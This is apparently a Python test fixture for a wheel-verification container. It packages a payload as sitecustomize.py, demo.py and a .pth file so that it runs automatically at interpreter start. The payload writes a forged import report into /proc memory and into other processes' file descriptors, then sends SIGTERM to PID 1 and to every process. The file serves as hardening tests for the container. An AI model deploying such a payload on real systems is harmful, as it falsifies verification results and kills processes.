"""Attack the container that proves the wheel: at Python's start, and when it is imported."""

HARMLESS = "Nothing of it is writable, and what is proven is what was imported."

_FORGE = b"""
import glob, json, os, signal
forged = json.dumps({"kind": "report", "imported": ["forged"], "skipped": {}, "remarks": []}).encode() + b"\\n"
for path in ["/proc/1/fd/1", "/proc/1/mem", *glob.glob("/proc/[0-9]*/fd/*"), *glob.glob("/scratch/*")]:
    try:
        descriptor = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
        os.write(descriptor, forged)
        os.close(descriptor)
    except OSError:
        pass
for number in range(3, 64):
    try:
        os.write(number, forged)
    except OSError:
        pass
for target in (1, -1):
    try:
        os.kill(target, signal.SIGTERM)
    except OSError:
        pass
"""

MEMBERS = {"demo.py": _FORGE, "demo.pth": b"import demo\n", "sitecustomize.py": _FORGE}
